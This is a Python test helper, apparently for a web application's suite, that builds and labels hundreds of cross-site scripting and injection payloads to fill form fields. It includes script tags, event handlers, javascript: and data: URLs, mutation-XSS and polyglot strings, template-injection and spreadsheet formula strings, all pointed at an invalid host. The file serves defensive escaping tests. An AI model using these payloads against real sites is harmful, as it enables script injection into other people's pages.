"""Texts that would run, load, lead away or take hold of the page if any part of it took them for markup.

Made of a small grammar, so that each carrier meets each trick. An element or attribute of theirs is known by `planted`;
a text of theirs by its label (P001), which stands behind it.
"""

import re
from collections.abc import Iterable, Iterator
from itertools import count, cycle, product

LABEL = re.compile(r"P\d{3}")
# Nobody is asked for this: the name does not exist, and a request for it is a fault by itself.
ELSEWHERE = "//planted.invalid/"

CODES = ["alert({n})", "self.hit={n}", "hit={n}"]
HANDLED = [
    "img src=x onerror",
    "svg onload",
    "body onload",
    "details open ontoggle",
    "input autofocus onfocus",
    "select autofocus onfocus",
    "textarea autofocus onfocus",
    "button autofocus onfocus",
    "video src=x onerror",
    "audio src=x onerror",
    "marquee onstart",
    "iframe onload",
    "object data=x onerror",
    "embed src=x onerror",
    "link rel=stylesheet href=x onerror",
    "script src=x onerror",
    "style onload",
    "frameset onload",
    "p onpointerenter",
    "td tabindex=0 onfocus",
    "li style=content-visibility:auto oncontentvisibilityautostatechange",
    "b style=animation:x onanimationstart",
    "svg><animate attributeName=x dur=1s onbegin",
    "svg><image href=x onerror",
    "math><mtext onclick",
    "dialog open oncancel",
    "x tabindex=1 autofocus onfocus",
    "form onformdata",
]
WRITINGS = [
    "<{tag}={code} {mark}>",
    '<{tag}="{code}" {mark}>',
    "<{upper}\n=\t'{code}' {mark}/",
    "＜{tag}={code} {mark}＞",
]
SCRIPTS = [
    "<script {mark}>{code}</script>",
    "<ScRiPt {mark}>{code}</sCrIpT >",
    "<script/{mark}>{code}</script",
    "<scr<script {mark}>ipt>{code}</scr</script>ipt>",
    "<script {mark} src=" + ELSEWHERE + "{n}></script>",
    "<script {mark} type=module>import '" + ELSEWHERE + "{n}'</script>",
    "<svg {mark}><script>{code}</script></svg>",
    "</p></li></div><script {mark}>{code}</script>",
    "</title></textarea></style><script {mark}>{code}</script>",
    "<script {mark} src=data:text/javascript,{code}></script>",
    "<!--><script {mark}>{code}</script>-->",
    "<![CDATA[<script {mark}>{code}</script>]]>",
    "\u202e<script {mark}>{code}</script>",
    "\u200b<\u200bscript {mark}>{code}</script>",
    "﹤script {mark}﹥{code}﹤/script﹥",
    "&lt;script {mark}&gt;{code}&lt;/script&gt;",
    "&amp;lt;script {mark}&amp;gt;{code}",
    "&#60;script {mark}&#62;{code}&#x3c;/script&#x3e;",
    r"\u003cscript {mark}\u003e{code}\u003c/script\u003e",
    "%3Cscript {mark}%3E{code}%3C/script%3E",
    "+ADw-script {mark}+AD4-{code}+ADw-/script+AD4-",
]
ADDRESSES = [
    "javascript:{code}",
    "JaVaScRiPt:{code}",
    "java\tscript:{code}",
    "java\nscript:{code}",
    " javascript:{code}",
    "&#106;avascript&colon;{code}",
    "&#x6A;&#x61;vascript:{code}",
    "javascript&#58;{code}",
    "javascript://%0a{code}",
    "ｊavascript:{code}",
    "vbscript:msgbox({n})",
    "data:text/html,<script>{code}</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{code}'/>",
    ELSEWHERE + "{n}",
]
CARRIERS = [
    '<a {mark} href="{address}">x</a>',
    '<form {mark} action="{address}"><button>x</button></form>',
    '<iframe {mark} src="{address}"></iframe>',
    '<svg {mark}><a xlink:href="{address}"><text>x</text></a></svg>',
    '<meta {mark} http-equiv="refresh" content="0;url={address}">',
    "[x]({address})",
    "![x](<{address}>)",
]
RARE_CARRIERS = [
    '<button {mark} formaction="{address}">x</button>',
    '<object {mark} data="{address}"></object>',
    '<embed {mark} src="{address}">',
    '<base {mark} href="{address}">',
    '<link {mark} rel="stylesheet" href="{address}">',
    '<math {mark}><mi href="{address}">x</mi></math>',
    '<area {mark} href="{address}">',
    '<table {mark} background="{address}">',
    "<{address}>",
    "[x]: {address}\n\n[x]",
    '[x](https://planted.invalid/ "\\"onmouseover={code} {mark}")',
]
OTHERS = [
    # Out of a quoted attribute
    '" {mark} autofocus onfocus="{code}',
    "' {mark} autofocus onfocus='{code}",
    '"><img {mark} src=x onerror={code}>',
    "'><img {mark} src=x onerror={code}>",
    "` {mark} onerror={code}",
    '\\" {mark} onfocus={code} //',
    "&quot; {mark} onfocus=&quot;{code}",
    'x" style="background:url(' + ELSEWHERE + '{n})" {mark}="',
    # Frames and styles
    '<iframe {mark} srcdoc="<script>parent.{code}</script>"></iframe>',
    "<iframe {mark} srcdoc='&lt;script&gt;parent.{code}&lt;/script&gt;'></iframe>",
    "<style {mark}>@import '" + ELSEWHERE + "{n}';</style>",
    "<style {mark}>*{{display:none}}</style>",
    "<p {mark} style=\"background:url('" + ELSEWHERE + "{n}')\">x</p>",
    "<img {mark} src=" + ELSEWHERE + "{n}>",
    "<img {mark} srcset=" + ELSEWHERE + "{n}>",
    "<svg {mark}><use href=data:image/svg+xml,x#x></svg>",
    "<input {mark} type=image src=" + ELSEWHERE + "{n}>",
    "<plaintext {mark}>",
    "<isindex {mark} action=javascript:{code} type=image>",
    "<?xml-stylesheet {mark} href=javascript:{code}?>",
    "<!DOCTYPE x [<!ENTITY {mark} '{code}'>]>&{mark};",
    # Read twice, it is another thing than read once
    "<noscript><p {mark} title='</noscript><img src=x onerror={code}>'>",
    "<template {mark}><img src=x onerror={code}></template>",
    "<math {mark}><mtext><table><mglyph><style><img src=x onerror={code}>",
    "<svg {mark}></p><style><a id='</style><img src=x onerror={code}>'>",
    "<form {mark}><math><mtext></form><form><mglyph><style></math><img src onerror={code}>",
    "<table {mark}><tr><td><svg><desc><table><td><img src=x onerror={code}>",
    "<xmp {mark}><p title='</xmp><img src=x onerror={code}>'>",
    "<!--<img {mark} title='--><img src=x onerror={code}>'>",
    "<p {mark}<img src=x onerror={code}//",
    "<<img {mark} src=x onerror={code}>>",
    "<img alt='<x' {mark} title='/><img src=x onerror={code}>'>",
    "</table></td></tr></li></ol></form></main><h1 {mark} onclick={code}>",
    # The languages of templates
    "{{{{ request.user }}}}{{% load {mark} %}}{code}",
    "{{% include 'base.html' %}} {{{{ {mark}|safe }}}}",
    "{{% debug %}}{{# {mark} #}}",
    "{{% csrf_token %}} {mark}",
    "${{{code}}} #{{{code}}} {mark}",
    "%(name)s %s {mark}",
    # What htmx and our own scripts listen to
    "<p {mark} hx-get=/me/ hx-trigger=load>x</p>",
    "<p {mark} data-hx-get=/me/ data-hx-trigger=load>x</p>",
    "<p {mark} hx-on::load={code}>x</p>",
    "<p {mark} hx-on:click={code} hx-vals='js:{{a:{code}}}'>x</p>",
    "<form {mark} data-act method=post action=/sign-out/><button type=submit>x</button></form>",
    "<form {mark} data-act data-queue=messages action=" + ELSEWHERE + "></form>",
    "<button {mark} data-insert=x data-into=id_body>x</button>",
    "<p {mark} data-live-topic=person.1 data-live-seq=0 data-live-epoch=x>x</p>",
    "<ol {mark} id=main data-live-grow data-live-from=0></ol>",
    "<p {mark} data-person=1 data-people=1 data-when=phase-1 data-open=0>x</p>",
    '<a {mark} data-fill=\'{{"body":"x"}}\' data-fill-note=x>x</a>',
    "<p {mark} data-document=1 data-position=" + ELSEWHERE + " data-place=x data-continue>x</p>",
    "<p {mark} data-visit=" + ELSEWHERE + " data-catch-up=/x/>x</p>",
    "<p {mark} data-seconds-left=1 data-warn=1 data-answered=x data-line>x</p>",
    "<body {mark} data-person=1 data-kept-at=x>",
    "<input {mark} name=csrfmiddlewaretoken value=x><input name=key>",
    "<meta {mark} name=htmx-config content='{{\"allowEval\":true}}'>",
    # Names that a page's own scripts look for
    "<img {mark} name=congressLive><a id=congressLive>x</a>",
    "<form {mark} id=htmx><input name=config></form>",
    # One text for several places
    "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* {mark} */{code} )//</stYle/</titLe/</teXtarEa/</scRipt/--!>"
    "<sVg/oNloAd={code}//>",
    "'\"--></style></script><svg {mark} onload={code}>",
    "*/{code}/* {mark}',{code},'",
    '=HYPERLINK("https:' + ELSEWHERE + '{n}","{mark}")',
    "@SUM({mark})",
]
# Of the tightest fields.
SHORT = ["<img planted src=x onerror=hit={n}>", "<s planted onclick=hit={n}>", '"><b planted>{n}', "<b planted>{n}"]


def templates() -> Iterator[str]:
    yield from SCRIPTS
    for handled, writing in product(HANDLED, WRITINGS):
        yield writing.replace("{tag}", handled).replace("{upper}", handled.upper())
    for address, carrier in product(ADDRESSES, CARRIERS):
        yield carrier.replace("{address}", address)
    for address, carrier in zip(cycle(ADDRESSES), RARE_CARRIERS, strict=False):
        yield carrier.replace("{address}", address)
    yield from OTHERS


def written(template: str, n: int) -> str:
    code = CODES[n % len(CODES)].format(n=n)
    return template.format(code=code, mark=f"planted{n}", n=n)


PAYLOADS = [written(template, n) for n, template in enumerate(templates(), start=1)]


def labelled(payloads: Iterable[str] = PAYLOADS) -> list[str]:
    return [f"{payload} P{n:03}" for n, payload in enumerate(payloads, start=1)]


class Supply:
    """Payloads for one field after the other, each as full as it may be; in the end all were in some field."""

    def __init__(self):
        self.left, self.short = cycle(labelled()), count(1)
        self.given: set[str] = set()

    def text(self, most: int) -> str:
        """As many of them as fit into a field, a line each."""
        lines: list[str] = []
        while len("\n".join(lines)) <= most:
            lines.append(next(self.left))
        return "\n".join(lines[:-1]) or lines[0][:most]

    def line(self, most: int) -> str:
        """One of them that fits."""
        fitting = (one for one in self.left if len(one) <= most and "\n" not in one and "\t" not in one)
        return next(fitting)

    def stub(self) -> str:
        """For fields of forty characters."""
        n = next(self.short)
        return SHORT[n % len(SHORT)].format(n=1000 + n)
